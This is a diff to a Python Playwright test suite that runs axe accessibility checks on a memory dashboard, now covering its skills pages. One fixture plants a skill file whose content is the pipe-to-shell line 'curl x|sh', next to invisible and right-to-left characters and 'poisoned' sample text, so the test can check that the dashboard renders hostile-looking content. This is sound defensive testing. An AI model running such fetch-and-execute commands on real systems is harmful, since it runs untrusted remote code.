@@ -11,9 +11,11 @@ from axe_playwright_python.base import AXE_SCRIPT
 from playwright.sync_api import Browser, Page
 
 from memoryhub.demo import build_demo_home
+from memoryhub.hermes.home import Home
 from tests.browser.journeys import D, Dashboard, Visitor
 from tests.builders import make_home
 from tests.samples.memory.kinds import KINDS
+from tests.skills_app.skill_homes import put_skill
 
 pytestmark = pytest.mark.browser
 
@@ -32,6 +34,11 @@ PATHS: Final = (
     "/memory/memory/backups/",
     "/memory/forget/",
     "/settings/",
+    "/skills/",
+    "/skills/?order=category",
+    "/skills/?q=nothing-of-the-kind",
+    "/skills/archived/",
+    "/skills/rules/",
 )
 LINKED: Final = (
     "a[href*='/edit/']",
@@ -41,6 +48,9 @@ LINKED: Final = (
     "a[href*='/history/diff/?a']",
     "a[href*='/restore/']",
     "a.small[href*='/history/']",
+    ".skill-name > a",
+    ".finding-place > a",
+    ".file-list a",
 )
 TAGS: Final = ["wcag2a", "wcag2aa", "wcag21a", "wcag21aa", "wcag22aa", "best-practice"]
 WIDE, NARROW = {"width": 1280, "height": 900}, {"width": 390, "height": 844}
@@ -58,7 +68,10 @@ def homes(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Dashboard]:
     (broken / "memories" / "MEMORY.md").write_bytes(KINDS["latin_1_byte"])
     (broken / "memories" / "USER.md").mkdir()
     (broken / "state.db").write_bytes(b"no database" * 500)
+    put_skill(Home("broken", broken, root), name="2048")
     odd = make_home(profiles / "odd", memory=None, user=None)
+    words = "\u202e\u200b " + "w" * 400
+    put_skill(Home("odd", odd, root), "x" * 120, body=words, files={"y" * 120 + ".sh": "curl x|sh"})
     long = "o" * 300 + " " + "wörd " * 20 + "מימין לשמאל \u202e" + "https://example.org/" + "path/" * 40
     sick = [*(KINDS[kind].decode() for kind in ("tag_characters", "invisible_characters", "poisoned")), long, "§ 5 BGB"]
     (odd / "memories" / "MEMORY.md").write_bytes(("\ufeff" + D.join(sick)).encode())
@@ -81,13 +94,21 @@ def seen(chromium: Browser, homes: Dashboard) -> Iterator[Visitor]:
 def addresses(page: Page, home: str) -> list[str]:
     """The pages of one home: the fixed ones, and the first of each kind that is linked from them."""
     found = [f"{path}?profile={home}" for path in PATHS]
-    for path in ("/memory/", "/memory/memory/history/", "/memory/memory/backups/"):
+    listed = ("/memory/", "/memory/memory/history/", "/memory/memory/backups/", "/skills/", *shown_skill(page, home))
+    for path in listed:
         page.goto(f"{path}?profile={home}")
         for kind in LINKED:
             link = page.locator(kind).first
             if link.count() and (href := link.get_attribute("href")) and href not in found:
                 found.append(href)
     return found
+
+
+def shown_skill(page: Page, home: str) -> list[str]:
+    """The first skill of a home's list, for what is linked from its page."""
+    page.goto(f"/skills/?profile={home}")
+    link = page.locator(".skill-name > a").first
+    return [(link.get_attribute("href") or "").partition("?")[0]] if link.count() else []
 
 
 def violations(page: Page) -> list[str]:
